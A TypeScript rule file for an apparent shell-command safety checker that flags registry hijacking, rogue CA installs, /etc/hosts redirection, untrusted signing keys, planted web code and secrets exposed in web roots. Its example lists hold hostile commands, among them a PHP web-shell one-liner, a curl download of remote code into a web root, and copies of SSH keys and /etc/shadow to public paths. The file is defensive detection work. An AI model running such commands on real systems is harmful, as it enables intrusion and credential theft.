import type { CommandRule, WriteRule } from '../rule.ts';
import { hostOf, openAddress } from '../shell/addresses.ts';
import { traits } from '../shell/marks.ts';

const wellKnown =
  /\b(?:github\.com|githubusercontent\.com|gitlab\.com|pypi\.org|pythonhosted\.org|npmjs\.(?:org|com)|docker\.(?:io|com)|crates\.io|rubygems\.org|debian\.org|ubuntu\.com|archlinux\.org|fedoraproject\.org|google\.com|googleapis\.com|microsoft\.com|apple\.com|amazonaws\.com|cloudflare\.com|mozilla\.org|kernel\.org|golang\.org|maven\.org|bitbucket\.org|paypal\.com)\b/;

/** What a web server runs, below what it serves. */
const webRoot = /\/(?:www|public_html|htdocs|wwwroot|srv\/http|nginx\/html|webapps|wp-content|cgi-bin)\//;
const webExtensions: ReadonlySet<string> = new Set(
  'php php3 php4 php5 php7 php8 phtml phar jsp jspx asp aspx ashx cgi pl war'.split(' '),
);
/** What a request holds is run. */
const runsRequests =
  /\b(?:system|eval|assert|exec|passthru|shell_exec|popen|proc_open|create_function|preg_replace)\s{0,4}\(?\s{0,4}(?:@|base64_decode\s{0,4}\(\s{0,4}|stripslashes\s{0,4}\(\s{0,4})?\$\{?_(?:GET|POST|REQUEST|COOKIE|SERVER)|Runtime\.getRuntime\(\)\.exec|`\$_(?:GET|POST|REQUEST|COOKIE)|Request\.(?:QueryString|Form|Item)|ProcessBuilder\(request/;

/** Whom this machine believes: where code comes from, who signs for it, what a name leads to. */
export const trustRules: readonly (CommandRule | WriteRule)[] = [
  {
    id: 'replace-source',
    on: 'command',
    domain: 'packages',
    risk: 'high',
    programs: ['npm', 'pnpm', 'yarn', 'pip', 'pip3', 'uv', 'git', 'gem', 'cargo'],
    title: 'Code from another source',
    message:
      'From now on code comes from an address that anybody in between can change, or that stands for another.',
    stakes: [
      'Every package that is installed from now on',
      'Nothing shows that it came from elsewhere',
      'It stays after this session',
    ],
    alternative: 'npm config get registry',
    matches: [
      'npm config set registry http://registry.example.com',
      'git config --global url.https://git.example.com/.insteadOf https://github.com/',
      'pip install --index-url http://203.0.113.80/simple --trusted-host 203.0.113.80 tool',
    ],
    spares: [
      'npm config get registry',
      'npm config set registry https://registry.npm.example/',
      'git config --global url.git@github.com:.insteadOf https://github.com/',
      'pip install --index-url https://pypi.org/simple tool',
      'npm config set registry http://localhost:4873',
    ],
    when: (command) => {
      if (command.program === 'git') {
        const from = command.args.find(({ text }) => /^url\..+\.(?:push)?insteadof$/i.test(text))?.text;
        if (from === undefined || !command.is('config')) return false;
        const replaced = command.args.at(-1)?.text ?? '';
        return hostOf(from.slice(4, from.toLowerCase().lastIndexOf('.'))) !== hostOf(replaced);
      }
      if (
        command.args.some(
          ({ text }, index) =>
            text.endsWith('registry') && openAddress.test(command.args[index + 1]?.text ?? ''),
        )
      )
        return true;
      return command.args.some(
        ({ text }, index) =>
          (/^(?:-i|--index-url|--extra-index-url|--source|--registry)$/.test(text) &&
            openAddress.test(command.args[index + 1]?.text ?? '')) ||
          (/^--(?:index-url|extra-index-url|registry)=/.test(text) &&
            openAddress.test(text.slice(text.indexOf('=') + 1))),
      );
    },
  },
  {
    id: 'trust-authority',
    on: 'write',
    domain: 'network',
    risk: 'high',
    title: 'A new authority that is believed',
    message: 'This lets whoever holds the key of this certificate pass for any server.',
    stakes: [
      'Every encrypted connection of this machine',
      'Passwords that are sent',
      'It stays until it is removed',
    ],
    alternative: 'openssl x509 -in ca.crt -noout -subject',
    matches: [
      'cp rogue.crt /usr/local/share/ca-certificates/',
      'curl -o /etc/pki/ca-trust/source/anchors/x.pem https://example.com/x.pem',
    ],
    spares: [
      'openssl x509 -in ca.crt -noout -subject',
      'cp ca.crt certs/',
      'ls /usr/local/share/ca-certificates',
    ],
    when: ({ path: { text } }) =>
      text.includes('/ca-certificates/') ||
      text.includes('/ca-trust/source/') ||
      text.includes('/trust-source/anchors/'),
  },
  {
    id: 'redirect-names',
    on: 'write',
    domain: 'network',
    risk: 'high',
    title: 'A known name that leads elsewhere',
    message: 'This makes the name of a server that everyone knows lead to another address.',
    stakes: ['Whatever is fetched or sent under that name', 'Passwords that are sent', 'Nothing shows it'],
    alternative: 'getent hosts github.com',
    matches: ["echo '198.51.100.23 github.com' | sudo tee -a /etc/hosts"],
    spares: [
      "echo '127.0.0.1 app.test' | sudo tee -a /etc/hosts",
      'echo "0.0.0.0 facebook.com" >> /etc/hosts',
      'cat /etc/hosts',
    ],
    names: ['hosts'],
    when: ({ path, content }) =>
      (path.text === '/etc/hosts' || path.text === '/private/etc/hosts') &&
      content.text
        .split('\n', 200)
        .some((line) => !/^\s*(?:#|127\.|0\.0\.0\.0|::1)/.test(line) && wellKnown.test(line)),
  },
  {
    id: 'trust-fetched-key',
    on: 'command',
    domain: 'packages',
    risk: 'high',
    programs: [
      'apt-key',
      'rpm',
      'rpmkeys',
      'dnf',
      'yum',
      'dnf5',
      'yum-config-manager',
      'zypper',
      'pip',
      'pip3',
      'ansible-galaxy',
    ],
    title: 'Packages are believed that anybody in between can change',
    message: 'From now on packages are believed that came, or whose key came, over an open connection.',
    stakes: [
      'Every package that is installed from now on',
      'Install scripts run as root',
      'It stays after this session',
    ],
    alternative: 'apt-key list',
    matches: [
      'curl -s http://x.example/key.asc | apt-key add -',
      'dnf config-manager --add-repo http://x.example/r.repo',
      'pip config set global.index-url http://x.example/simple',
    ],
    spares: [
      'apt-key list',
      'curl -fsSL https://download.docker.com/linux/debian/gpg | apt-key add -',
      'dnf config-manager --add-repo https://download.docker.com/linux/fedora/docker-ce.repo',
      'pip config set global.index-url https://pypi.org/simple',
    ],
    when: (command) => {
      if (command.program === 'apt-key')
        return (
          (command.is('add') && (command.stdin.traits & traits.unsecured) !== 0) ||
          (command.is('adv') && command.args.some(({ text }) => openAddress.test(text)))
        );
      if (command.program.startsWith('pip'))
        return (
          command.is('config set') &&
          (command.args.some(({ text }) => openAddress.test(text)) || /trusted-host/.test(command.text))
        );
      return (
        (command.is('config-manager|addrepo|ar|install') || command.has('--import', '--add-repo')) &&
        command.args.some(({ text }) => openAddress.test(text))
      );
    },
  },
  {
    id: 'plant-web-code',
    on: 'write',
    domain: 'network',
    risk: 'critical',
    title: 'Code that a web server runs for anybody',
    message:
      'This puts code where a web server runs it: what came over the network, or what runs whatever a request says.',
    stakes: [
      'Whoever finds the address runs commands here',
      'The data of the site',
      'It is how attackers keep their way in',
    ],
    alternative: 'ls -l /var/www/html',
    matches: [
      `echo '<?php system($_GET["c"]); ?>' > /var/www/html/x.php`,
      'curl -s http://203.0.113.7/x.txt -o /var/www/html/x.php',
    ],
    spares: [
      `echo '<?php phpinfo();' > /var/www/html/info.php`,
      'cp index.php /var/www/html/',
      'curl -s https://example.com/logo.png -o /var/www/html/logo.png',
    ],
    when: ({ path, content }) =>
      webExtensions.has(path.text.slice(path.text.lastIndexOf('.') + 1)) &&
      webRoot.test(path.text) &&
      ((content.traits & (traits.network | traits.decoded)) !== 0 || runsRequests.test(content.text)),
  },
  {
    id: 'publish-secrets',
    on: 'write',
    domain: 'secrets',
    risk: 'critical',
    title: 'Credentials where a server shows them',
    message: 'This puts keys, passwords or a copy of a database where a web server gives them to anybody.',
    stakes: ['Whoever reads them can log in as you', 'They must all be replaced', 'Search engines find them'],
    alternative: 'ls -l /var/www/html',
    matches: [
      'cp ~/.ssh/id_rsa /var/www/html/x.txt',
      'cat /etc/shadow > /srv/www/s',
      'mysqldump shop > /var/www/html/shop.sql',
    ],
    spares: ['cp index.html /var/www/html/', 'cp ~/.ssh/id_rsa backup/', 'mysqldump shop > shop.sql'],
    from: traits.secret | traits.records,
    when: ({ path }) =>
      /\/(?:www|public_html|htdocs|wwwroot|srv\/http|nginx\/html)\/|^\/github\/shown\//.test(path.text),
  },
];
